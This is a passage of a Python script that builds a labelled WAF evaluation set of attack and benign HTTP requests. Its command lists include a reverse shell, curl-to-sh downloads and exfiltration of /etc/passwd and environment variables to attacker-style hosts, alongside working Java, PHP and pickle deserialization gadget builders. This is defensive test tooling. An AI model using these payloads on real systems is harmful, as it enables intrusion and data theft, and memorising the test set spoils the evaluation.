#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v24" (waf_unseen_fifteenth.jsonl).

Provenance: written blind on 2026-12-08 by a helper session that read none of
the WAF's rules, checks, source code, tests, docs, benchmarks or corpora (only
the output-format docstring of make_waf_unseen_fourteenth.py was consulted, to
copy the row format).  Attack payloads were composed from general knowledge of
the techniques (no payload lists were fetched or copied); benign traffic was
composed from general knowledge of ordinary web/API usage.  Source tag "v24";
all randomness comes from random.Random(151515), so two runs give
byte-identical output.  Standard library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_fifteenth.py

Output: waf_unseen_fifteenth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v24-a-<category>-NNNN" (attack) / "v24-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 20 of them hard;
             800 in all);
             benign: benign_finance, benign_education, benign_travel,
             benign_social, benign_analytics, benign_code_snippets,
             benign_richtext, benign_search, benign_graphql, benign_files,
             benign_urls, benign_base64, benign_api_json, benign_forms,
             benign_headers (the first five kinds 74 rows, the other ten 73
             rows, 1100 in all; every third row of a kind, 25 per kind, is
             hard); 1900 rows in total.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF; never Content-Length
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document; a query_key may have no "=", as sent to raw-query and
             php-cgi style handlers); a form row may carry the payload as a
             value or as a field name (e.g. "password[$ne]", Spring
             "class.module..."); a json row may carry it 10+ levels deep or
             after 300+ characters of ordinary text in the same value; a
             multipart row carries it as a text field, a field name, a file's
             content or a file's filename; an xml row is either a value inside
             an element or (xxe, XStream, XMLDecoder, XSLT, XML-RPC, benign
             ISO 20022 / OTA / QTI / Atom / Maven POM documents) the whole
             document.  A header row
             with placement header may put the payload in a standard header
             (User-Agent, Referer, Accept, Host, Content-Type, ...) or in a
             custom one.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity/character-reference decoding; header
             values are not decoded).  Deliberate encoded evasions (double
             percent-encoding, %uXXXX, overlong UTF-8, literal %0d%0a in a
             header, ...) are kept literally, i.e. the raw request carries
             them percent-encoded once more.  Three query rows are
             percent-encoded as Latin-1 bytes (%AD soft hyphen for php-cgi
             CVE-2024-4577, %BF for a GBK wide-byte quote, and a PHP
             bitwise-NOT string whose bytes are all >= 0x80).  For JSON
             values that are objects or arrays (NoSQL operators, gadget
             objects, structured benign values) the payload is the compact
             JSON text (decoded, i.e. without the raw \\u escapes).  For a
             GraphQL document the payload is the whole "query" string (one
             benign graphql template carries a variable's value instead).
  hard       true for evasive attacks (20 of 50 per category: raw
             encodings, JSON \\u escapes, XML character references, base64
             layers, odd IP spellings, language-level obfuscation) and for
             benign rows deliberately prone to false positives (a third)
  source     "v24"
"""

import base64
import gzip
import hashlib
import json
import random
import struct
import unicodedata
import zlib
from pathlib import Path

R = random.Random(151515)
SOURCE = "v24"
OUT = Path(__file__).parent / "waf_unseen_fifteenth.jsonl"

MARK = "\x00@@PAYLOAD@@\x00"
UNRES = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")


# ---------------------------------------------------------------- encoders
def pct(s, safe="", force="", lower=False, plus=False, latin1=False):
    """Percent-encode s; unquote(pct(s)) == s (unquote_plus when plus)."""
    fmt = "%%%02x" if lower else "%%%02X"
    out = []
    for ch in s:
        if plus and ch == " " and force != "ALL":
            out.append("+")
            continue
        keep = (ch in UNRES or ch in safe) and ch != "%" and not (plus and ch == "+")
        if force == "ALL" or ch in force:
            keep = False
        if keep:
            out.append(ch)
        else:
            bs = ch.encode("latin-1") if latin1 else ch.encode("utf-8")
            out.extend(fmt % b for b in bs)
    return "".join(out)


def jstr(s, esc="", slash=False, upper=False):
    """JSON string literal for s; chars in esc (or all if esc == 'ALL') as \\uXXXX."""
    f = "\\u%04X" if upper else "\\u%04x"
    out = ['"']
    for ch in s:
        o = ord(ch)
        if esc == "ALL" or (esc and ch in esc):
            if o > 0xFFFF:
                o -= 0x10000
                out.append(f % (0xD800 + (o >> 10)) + f % (0xDC00 + (o & 0x3FF)))
            else:
                out.append(f % o)
        elif ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "/" and slash:
            out.append("\\/")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif o < 0x20 or o == 0x7F:
            out.append("\\u%04x" % o)
        elif o > 0x7E:
            out.append(json.dumps(ch)[1:-1])
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def jdump(obj, esc="", slash=False, compact=True):
    """Serialise obj like json.dumps but with jstr string escaping."""
    sep_i, sep_k = (",", ":") if compact else (", ", ": ")
    if isinstance(obj, dict):
        return (
            "{" + sep_i.join(jstr(k, esc, slash) + sep_k + jdump(v, esc, slash, compact) for k, v in obj.items()) + "}"
        )
    if isinstance(obj, list):
        return "[" + sep_i.join(jdump(v, esc, slash, compact) for v in obj) + "]"
    if isinstance(obj, str):
        return jstr(obj, esc, slash)
    return json.dumps(obj)


def compact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def xesc(s, charref="", dec=False):
    """XML text escaping; chars in charref become character references."""
    out = []
    for ch in s:
        if charref == "ALL" or (charref and ch in charref):
            out.append("&#%d;" % ord(ch) if dec else "&#x%x;" % ord(ch))
        elif ch == "&":
            out.append("&amp;")
        elif ch == "<":
            out.append("&lt;")
        elif ch == ">":
            out.append("&gt;")
        elif ch == "\r":
            out.append("&#13;")
        else:
            out.append(ch)
    return "".join(out)


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64url(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.urlsafe_b64encode(s).decode("ascii").rstrip("=")


def rot13(s):
    out = []
    for ch in s:
        if "a" <= ch <= "z":
            out.append(chr((ord(ch) - 97 + 13) % 26 + 97))
        elif "A" <= ch <= "Z":
            out.append(chr((ord(ch) - 65 + 13) % 26 + 65))
        else:
            out.append(ch)
    return "".join(out)


def raw_deflate(s):
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(s.encode()) + co.flush()


def rhex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ralnum(n):
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def rdigits(n):
    return "".join(R.choice("0123456789") for _ in range(n))


def ruuid():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def fake_jwt(claims, alg="HS256"):
    head = b64url(json.dumps({"alg": alg, "typ": "JWT"}, separators=(",", ":")))
    body = b64url(json.dumps(claims, separators=(",", ":")))
    sig = b64url(bytes(R.randrange(256) for _ in range(32 if alg == "HS256" else 64)))
    return head + "." + body + "." + sig


# ------------------------------------------------------------ serialisers
def java_urldns(url_host):
    """Real Java serialisation stream (ysoserial URLDNS shape): HashMap{URL: str}."""

    def utf(s):
        b = s.encode()
        return struct.pack(">H", len(b)) + b

    def tstr(s):
        return b"\x74" + utf(s)

    out = b"\xac\xed\x00\x05"
    out += b"\x73\x72" + utf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03\x00\x02"
    out += b"F" + utf("loadFactor") + b"I" + utf("threshold") + b"\x78\x70"
    out += struct.pack(">fi", 0.75, 12)
    out += b"\x77\x08" + struct.pack(">ii", 16, 1)
    out += b"\x73\x72" + utf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03\x00\x07"
    out += b"I" + utf("hashCode") + b"I" + utf("port")
    out += b"L" + utf("authority") + tstr("Ljava/lang/String;")
    for f in ("file", "host", "protocol", "ref"):
        out += b"L" + utf(f) + b"\x71\x00\x7e\x00\x03"
    out += b"\x78\x70"
    out += struct.pack(">ii", -1, -1)
    out += tstr(url_host) + tstr("") + tstr(url_host) + tstr("http") + b"\x70"
    out += b"\x78"
    out += tstr("http://" + url_host)
    out += b"\x78"
    return out


def php_ser(v):
    """PHP serialize(); objects as ('O', class, [(propname, value), ...])."""
    if v is None:
        return "N;"
    if v is True or v is False:
        return "b:%d;" % (1 if v else 0)
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode()), v)
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(i) + php_ser(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v.items()))
    if isinstance(v, tuple) and v[0] == "O":
        _, cls, props = v
        return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), "".join(php_ser(k) + php_ser(x) for k, x in props))
    if isinstance(v, tuple) and v[0] == "R":
        return "r:%d;" % v[1]
    raise TypeError(v)


def prot(cls, name):
    return "\x00*\x00" + name


def priv(cls, name):
    return "\x00" + cls + "\x00" + name


def php_fnstream(func):
    cls = "GuzzleHttp\\Psr7\\FnStream"
    return php_ser(("O", cls, [(priv(cls, "methods"), {"close": func}), ("_fn_close", func)]))


def php_monolog(cmd):
    buf = "Monolog\\Handler\\BufferHandler"
    sysl = "Monolog\\Handler\\SyslogUdpHandler"
    inner = (
        "O",
        buf,
        [
            (prot(buf, "handler"), ("R", 2)),
            (prot(buf, "bufferSize"), -1),
            (prot(buf, "buffer"), [{0: cmd, "level": None}]),
            (prot(buf, "level"), None),
            (prot(buf, "initialized"), True),
            (prot(buf, "bufferLimit"), -1),
            (prot(buf, "processors"), ["current", "system"]),
        ],
    )
    return php_ser(("O", sysl, [(prot(sysl, "socket"), inner)]))


def py_pickle0(cmd):
    return ("cposix\nsystem\n(V%s\ntR." % cmd).encode()


def py_pickle2(cmd):
    c = cmd.encode()
    return b"\x80\x02cposix\nsystem\nq\x00X" + struct.pack("<I", len(c)) + c + b"q\x01\x85q\x02Rq\x03."


def php_xor(word):
    pool = [
        chr(c)
        for c in list(range(0x21, 0x30)) + list(range(0x3A, 0x41)) + list(range(0x5B, 0x61)) + list(range(0x7B, 0x7F))
        if chr(c) not in "'\\"
    ]
    a, b = [], []
    for ch in word:
        for x in pool:
            y = chr(ord(x) ^ ord(ch))
            if y in pool:
                a.append(x)
                b.append(y)
                break
        else:
            raise ValueError(ch)
    return "('%s'^'%s')" % ("".join(a), "".join(b))


def png_bytes(w=2, h=2, rgb=(200, 30, 30)):
    def chunk(t, d):
        c = t + d
        return struct.pack(">I", len(d)) + c + struct.pack(">I", zlib.crc32(c) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def iban(cc, bban):
    digits = "".join(str(int(ch, 36)) for ch in (bban + cc + "00"))
    chk = 98 - int(digits) % 97
    return "%s%02d%s" % (cc, chk, bban)


def ip2int(ip):
    a, b, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def utf7_strict(s):
    """UTF-7 that base64-encodes every character outside RFC 2152 set D (so '<' becomes '+ADw-')."""
    direct = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'(),-./:? \t\r\n")
    out, run = [], []

    def flush():
        if run:
            out.append("+" + base64.b64encode("".join(run).encode("utf-16-be")).decode().rstrip("=") + "-")
            run.clear()

    for ch in s:
        if ch in direct:
            flush()
            out.append(ch)
        else:
            run.append(ch)
    flush()
    return "".join(out)


# ------------------------------------------------------------ client pools
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
]
API_UAS = [
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "axios/1.6.8",
    "Go-http-client/2.0",
    "PostmanRuntime/7.37.3",
    "Dart/3.3 (dart:io)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "ktor-client",
    "HarborFirst/5.12.0 (iPhone; iOS 17.4.1; Scale/3.00)",
    "ThermaCoreHub/2.8.4 (Linux; armv7l)",
    "Java/17.0.10",
    "Ruby",
    "GuzzleHttp/7",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = ["application/json", "application/json, text/plain, */*", "*/*", "application/json;charset=UTF-8"]
LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
    "es-ES,es;q=0.9",
    "pt-BR,pt;q=0.9,en;q=0.8",
    "ja-JP,ja;q=0.9,en;q=0.8",
    "nl-NL,nl;q=0.9,en;q=0.8",
]

COOKIE_SAFE = "!#$&'()*-./:<=>?@[]^_`{|}~"
PATH_SAFE = "!$&'()*+,;=:@"


def pick_client(kind=None):
    if kind is None:
        kind = R.choice(["browser", "browser", "api"])
    if kind == "browser":
        return R.choice(BROWSER_UAS), ACCEPT_HTML if R.random() < 0.5 else "*/*"
    return R.choice(API_UAS), R.choice(ACCEPT_JSON)


def boundary():
    if R.random() < 0.6:
        return "----WebKitFormBoundary" + ralnum(16)
    if R.random() < 0.5:
        return "-" * 24 + rdigits(16)
    return "----geckoformboundary" + rhex(24)


def enc_q(v, sp, plus):
    return pct(v, safe=sp.get("qsafe", ""), plus=plus)


def make_req(placement, payload, sp):
    """Build (method, path, query, headers, body, payload_text) from a spec."""
    method = sp.get("method", "GET")
    path = sp["path"]
    ua = sp.get("ua")
    accept = sp.get("accept")
    if ua is None or accept is None:
        u2, a2 = pick_client(sp.get("client"))
        ua = ua or u2
        accept = accept or a2
    host = sp["host"]
    eo = dict(
        safe=sp.get("safe", ""), force=sp.get("force", ""), lower=sp.get("lower", False), latin1=sp.get("latin1", False)
    )
    plus = sp.get("plus", False)
    ptext = payload if isinstance(payload, str) else compact(payload)

    # path
    if MARK in path:
        assert placement == "path"
        po = dict(eo)
        po["safe"] = sp.get("safe", PATH_SAFE)
        path = path.replace(MARK, pct(payload, **po))
    # query
    query = ""
    if sp.get("q"):
        parts = []
        for k, v in sp["q"]:
            if k == MARK:
                ks = pct(payload, plus=plus, **eo)
            else:
                ks = pct(k, safe="[]", plus=plus)
            if v is None:
                parts.append(ks)
                continue
            if v == MARK:
                vs = pct(payload, plus=plus, **eo)
            else:
                vs = pct(v, safe=sp.get("osafe", ""), plus=plus)
            parts.append(ks + "=" + vs)
        query = "&".join(parts)
    if sp.get("rawq") is not None:
        query = sp["rawq"]

    body = ""
    ctype = sp.get("ctype")
    if "json" in sp:
        jc = sp.get("jcompact", True)
        text = jdump(sp["json"], "", sp.get("slash", False), compact=jc)
        mk = jstr(MARK)
        if mk in text:
            assert text.count(mk) == 1
            if isinstance(payload, str):
                rep = jstr(payload, sp.get("uesc", ""), sp.get("slash", False), sp.get("upper", False))
            else:
                rep = jdump(payload, sp.get("uesc", ""), sp.get("slash", False), compact=jc)
            text = text.replace(mk, rep)
        body = text
        ctype = ctype or R.choice(["application/json", "application/json", "application/json; charset=utf-8"])
    elif "form" in sp:
        fplus = sp.get("fplus", True)
        parts = []
        for k, v in sp["form"]:
            ks = pct(payload, plus=fplus, **eo) if k == MARK else pct(k, safe=sp.get("ksafe", "[]"), plus=fplus)
            vs = pct(payload, plus=fplus, **eo) if v == MARK else pct(v, safe=sp.get("osafe", ""), plus=fplus)
            parts.append(ks + "=" + vs)
        body = "&".join(parts)
        ctype = ctype or R.choice(
            ["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"]
        )
    elif "mp" in sp:
        bd = sp.get("boundary") or boundary()
        chunks = []
        for name, fn, ct, content in sp["mp"]:
            name = name.replace(MARK, payload)
            cd = 'Content-Disposition: form-data; name="%s"' % name
            if fn is not None:
                cd += '; filename="%s"' % fn.replace(MARK, payload)
            hdr = cd + "\r\n"
            if ct:
                hdr += "Content-Type: %s\r\n" % ct
            chunks.append("--" + bd + "\r\n" + hdr + "\r\n" + content.replace(MARK, payload) + "\r\n")
        body = "".join(chunks) + "--" + bd + "--\r\n"
        ctype = "multipart/form-data; boundary=" + bd
    elif "xml" in sp:
        if sp["xml"] is None:
            body = payload
        else:
            body = sp["xml"].replace(MARK, xesc(payload, sp.get("charref", ""), sp.get("dec", False)))
        ctype = ctype or R.choice(["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"])
    elif "body" in sp:
        body = sp["body"]

    headers = {"Host": host, "User-Agent": ua, "Accept": accept}
    if body or sp.get("ctype"):
        headers["Content-Type"] = ctype
    for k, v in sp.get("hdrs", []):
        headers[k] = v
    if sp.get("cookies"):
        cs = []
        for k, v in sp["cookies"]:
            if v == MARK:
                co = dict(eo)
                co["safe"] = sp.get("safe", COOKIE_SAFE)
                v = pct(payload, **co)
            cs.append(k + "=" + v)
        headers["Cookie"] = "; ".join(cs)
    if placement == "header":
        headers[sp["hname"]] = payload
    for k, v in headers.items():
        assert v.isascii() and "\r" not in v and "\n" not in v, (k, v)
    return method, path, query, headers, body, ptext


ROWS = []


def add_row(label, cat, placement, payload, sp, hard, idx):
    method, path, query, headers, body, ptext = make_req(placement, payload, sp)
    ROWS.append(
        {
            "id": "%s-%s-%s-%04d" % (SOURCE, "a" if label == "attack" else "b", cat, idx),
            "label": label,
            "category": cat,
            "method": method,
            "path": path,
            "query": query,
            "headers": headers,
            "body": body,
            "placement": placement,
            "payload": ptext,
            "hard": hard,
            "source": SOURCE,
        }
    )


# ------------------------------------------------------------ attack framework
ATK_HOSTS = [
    "c7rk2m.oast.fun",
    "k3x9q1.interact.sh",
    "a1b2c3d4.burpcollaborator.net",
    "203.0.113.77",
    "198.51.100.9",
    "cdn-static-assets.net",
    "dl.update-check.xyz",
    "ns2.dnsexfil.io",
    "x.ropchain.cc",
    "log.metrics-sync.top",
    "45.77.21.190",
    "t.kr4ken.ru",
]
CMDS = [
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "touch /tmp/pwned",
    "nslookup {H}",
    "curl http://{H}/x",
    "wget http://{H}/a -O /tmp/a",
    "sleep 7",
    "hostname",
    "ls -la /",
    "ping -c 3 {H}",
]
SCMDS = CMDS + [
    "curl -s http://{H}/s.sh|sh",
    "wget -qO- {H}/i|bash",
    "cat /etc/passwd|curl -d @- http://{H}/",
    "bash -i >& /dev/tcp/{H}/4444 0>&1",
    "nc {H} 4444 -e /bin/sh",
    "env|base64|curl -d @- {H}",
]


def expand(x, ctx):
    if isinstance(x, str):
        return x.replace("{SC}", ctx["SC"]).replace("{C}", ctx["C"]).replace("{H}", ctx["H"]).replace("{N}", ctx["N"])
    if isinstance(x, dict):
        return {expand(k, ctx): expand(v, ctx) for k, v in x.items()}
    if isinstance(x, list):
        return [expand(v, ctx) for v in x]
    if isinstance(x, tuple):
        return tuple(expand(v, ctx) for v in x)
    return x


def new_ctx():
    h = R.choice(ATK_HOSTS)
    return {
        "H": h,
        "C": R.choice(CMDS).replace("{H}", h),
        "SC": R.choice(SCMDS).replace("{H}", h),
        "N": str(R.randint(2, 9)),
    }


def Q(p, **o):
    return ("query", p, o)


def QK(p, **o):
    return ("query_key", p, o)


def PA(p, **o):
    return ("path", p, o)


def J(p, **o):
    return ("json", p, o)


def JK(p, **o):
    return ("json_key", p, o)


def F(p, **o):
    return ("form", p, o)


def FK(p, **o):
    return ("form", p, dict(o, key=True))


def H(p, name, **o):
    return ("header", p, dict(o, name=name))


def C(p, **o):
    return ("cookie", p, o)


def M(p, mode="field", **o):
    return ("multipart", p, dict(o, mode=mode))


def X(p, **o):
    return ("xml", p, o)


def XD(p, **o):
    return ("xml", p, dict(o, doc=True))


EPS = {
    "java_injection": [
        ("portal.harborfirst-bank.com", "/struts/account/statement.action", ["accountId", "name", "redirect"]),
        ("app.taskgrid.io", "/api/v2/rules/evaluate", ["expression", "condition", "filter"]),
        ("shop.northwind-outfitters.com", "/faces/search.xhtml", ["q", "term", "sort"]),
        ("gw.cartwheel-market.com", "/api/v1/promotions/preview", ["rule", "expr", "template"]),
        ("hub.thermacore-hub.net", "/api/devices/config", ["script", "profile", "settings"]),
        ("erp.meridian-logistics.com", "/webtools/control/main", ["query", "value", "lookup"]),
    ],
    "php_injection": [
        ("www.lumenhome.store", "/index.php", ["page", "action", "code", "cb"]),
        ("blog.chirpnest.social", "/wp-admin/admin-ajax.php", ["action", "data", "callback"]),
        ("shop.northwind-outfitters.com", "/modules/export.php", ["format", "filter", "expr"]),
        ("crm.ledgerline.io", "/admin/settings.php", ["site_name", "timezone", "footer"]),
        ("hub.thermacore-hub.net", "/cgi-bin/admin.php", ["opt", "val", "calc"]),
    ],
    "code_injection": [
        ("app.taskgrid.io", "/api/v1/formulas/evaluate", ["expression", "formula", "code"]),
        ("console.metricvault.dev", "/api/query/transform", ["transform", "script", "fn"]),
        ("reports.ledgerline.io", "/export/pdf", ["template_vars", "filter", "calc"]),
        ("hub.thermacore-hub.net", "/api/automations/test", ["condition", "action", "script"]),
        ("api.cartwheel-market.com", "/v2/pricing/rules", ["rule", "discountExpr", "expr"]),
        ("lab.quadrant-academy.edu", "/grader/run", ["code", "snippet", "solution"]),
    ],
    "rfi": [
        ("www.lumenhome.store", "/index.php", ["page", "include", "lang", "module"]),
        ("portal.tidewater-cu.org", "/main.php", ["content", "tpl", "view"]),
        ("cms.chirpnest.social", "/plugins/gallery/show.php", ["theme", "skin", "path"]),
        ("hub.thermacore-hub.net", "/admin/load.php", ["file", "conf", "plugin"]),
        ("learn.quadrant-academy.edu", "/mod/page/view.php", ["section", "layout", "inc"]),
    ],
    "ssrf": [
        ("api.cartwheel-market.com", "/v1/products/import", ["imageUrl", "feedUrl", "url"]),
        ("app.taskgrid.io", "/api/integrations/webhooks", ["url", "callbackUrl", "target"]),
        ("console.metricvault.dev", "/api/datasources/test", ["endpoint", "host", "uri"]),
        ("hr.peoplestack.app", "/api/avatar/fetch", ["src", "avatarUrl", "link"]),
        ("shop.northwind-outfitters.com", "/proxy/image", ["u", "url", "img"]),
        ("hub.thermacore-hub.net", "/api/firmware/check", ["updateUrl", "mirror", "server"]),
        ("api.helpdeskly.com", "/v2/link-preview", ["url", "href", "link"]),
    ],
    "rce": [
        ("hub.thermacore-hub.net", "/cgi-bin/diagnostic.cgi", ["ping_addr", "host", "target"]),
        ("192.168.0.1", "/goform/setSysAdm", ["ntp_server", "hostname", "ddns_domain"]),
        ("console.metricvault.dev", "/api/tools/traceroute", ["host", "ip", "target"]),
        ("app.taskgrid.io", "/api/exports/convert", ["filename", "format", "pages"]),
        ("api.smartlockly.com", "/v1/devices/logs", ["device", "since", "grep"]),
        ("shop.northwind-outfitters.com", "/admin/backup", ["dir", "name", "compress"]),
    ],
    "sqli": [
        ("shop.northwind-outfitters.com", "/catalog/products", ["id", "category", "sort", "order"]),
        ("online.harborfirst-bank.com", "/api/v1/transactions", ["accountId", "from", "memo", "sort"]),
        ("app.taskgrid.io", "/api/tasks/search", ["q", "status", "assignee"]),
        ("hr.peoplestack.app", "/reports/employees", ["dept", "orderBy", "empId"]),
        ("api.smartlockly.com", "/v1/locks/history", ["lockId", "user", "limit"]),
        ("www.lumenhome.store", "/product.php", ["id", "cat", "pid"]),
    ],
    "nosqli": [
        ("api.cartwheel-market.com", "/v1/auth/login", ["username", "password", "email"]),
        ("app.taskgrid.io", "/api/users/find", ["filter", "where", "q"]),
        ("api.chirpnest.social", "/v2/posts/query", ["author", "tag", "selector"]),
        ("hub.thermacore-hub.net", "/api/telemetry/search", ["deviceId", "metric", "since"]),
        ("api.helpdeskly.com", "/v1/tickets/lookup", ["ticketId", "token", "email"]),
    ],
    "ldapi": [
        ("sso.peoplestack.app", "/login", ["username", "user", "uid"]),
        ("intranet.meridian-logistics.com", "/directory/search", ["cn", "q", "name", "mail"]),
        ("vpn.harborfirst-bank.com", "/auth/ldap", ["login", "account", "user"]),
        ("app.taskgrid.io", "/api/admin/ldap/groups", ["group", "member", "ou"]),
        ("mail.quadrant-academy.edu", "/addressbook/lookup", ["surname", "givenName", "mail"]),
    ],
    "ssti": [
        ("app.taskgrid.io", "/api/email-templates/preview", ["body", "subject", "template"]),
        ("shop.northwind-outfitters.com", "/gift-card/preview", ["message", "to_name", "greeting"]),
        ("hr.peoplestack.app", "/api/offer-letters/render", ["template", "content", "footer"]),
        ("api.helpdeskly.com", "/v1/macros/render", ["text", "signature", "reply"]),
        ("www.lumenhome.store", "/newsletter/preview", ["name", "title", "headline"]),
        ("console.metricvault.dev", "/api/alerts/test", ["message", "annotation", "summary"]),
    ],
    "crlf": [
        ("shop.northwind-outfitters.com", "/redirect", ["url", "next", "return"]),
        ("online.harborfirst-bank.com", "/logout", ["next", "continue", "r"]),
        ("app.taskgrid.io", "/api/files/download", ["filename", "name", "disposition"]),
        ("www.lumenhome.store", "/set-language", ["lang", "locale", "l"]),
        ("api.helpdeskly.com", "/v1/track", ["event", "ref", "session"]),
    ],
    "mail_injection": [
        ("www.lumenhome.store", "/contact.php", ["email", "name", "subject"]),
        ("api.helpdeskly.com", "/v1/tickets", ["requester_email", "subject", "cc"]),
        ("shop.northwind-outfitters.com", "/share/email", ["to", "from", "sender_name"]),
        ("hr.peoplestack.app", "/api/invite", ["email", "display_name", "reply_to"]),
        ("webmail.quadrant-academy.edu", "/mail/compose", ["to", "subject", "from"]),
    ],
    "xss": [
        ("shop.northwind-outfitters.com", "/search", ["q", "query", "term"]),
        ("api.chirpnest.social", "/v2/comments", ["text", "body", "displayName"]),
        ("app.taskgrid.io", "/api/projects", ["name", "description", "title"]),
        ("www.lumenhome.store", "/reviews/submit", ["review", "nickname", "headline"]),
        ("api.helpdeskly.com", "/v1/widget/init", ["callback", "greeting", "returnUrl"]),
        ("hr.peoplestack.app", "/profile/edit", ["bio", "website", "jobTitle"]),
    ],
    "path_traversal": [
        ("app.taskgrid.io", "/api/attachments/download", ["file", "path", "name"]),
        ("shop.northwind-outfitters.com", "/static/image", ["img", "src", "f"]),
        ("reports.ledgerline.io", "/export/template", ["template", "layout", "tpl"]),
        ("hub.thermacore-hub.net", "/cgi-bin/log.cgi", ["log", "file", "page"]),
        ("learn.quadrant-academy.edu", "/course/resource", ["doc", "filename", "resource"]),
        ("www.lumenhome.store", "/index.php", ["page", "lang", "view"]),
    ],
    "xxe": [
        ("api.cartwheel-market.com", "/v1/orders/import", ["xml", "feed", "data"]),
        ("online.harborfirst-bank.com", "/ws/PaymentService", ["request", "msg", "payload"]),
        ("app.taskgrid.io", "/api/import/opml", ["file", "doc", "xml"]),
        ("hub.thermacore-hub.net", "/upnp/control/WANIPConn1", ["config", "xml", "data"]),
        ("sso.peoplestack.app", "/saml/acs", ["SAMLResponse", "assertion", "xml"]),
    ],
    "log4shell": [
        ("online.harborfirst-bank.com", "/api/v1/login", ["username", "user", "login"]),
        ("shop.northwind-outfitters.com", "/search", ["q", "query", "keyword"]),
        ("app.taskgrid.io", "/api/v3/events", ["name", "message", "source"]),
        ("hub.thermacore-hub.net", "/api/v1/provision", ["serial", "deviceName", "model"]),
        ("console.metricvault.dev", "/solr/admin/cores", ["action", "core", "wt"]),
        ("vpn.harborfirst-bank.com", "/vpn/login", ["username", "realm", "pw"]),
    ],
}

FILLQ = [
    ("lang", "en"),
    ("page", "1"),
    ("v", "2"),
    ("ref", "nav"),
    ("currency", "USD"),
    ("limit", "20"),
    ("format", "json"),
    ("region", "eu-west-1"),
    ("tab", "overview"),
    ("locale", "en_US"),
]
EXTRA_JSON = [
    ("locale", "en-US"),
    ("clientVersion", "4.18.2"),
    ("source", "web"),
    ("timezone", "Europe/Berlin"),
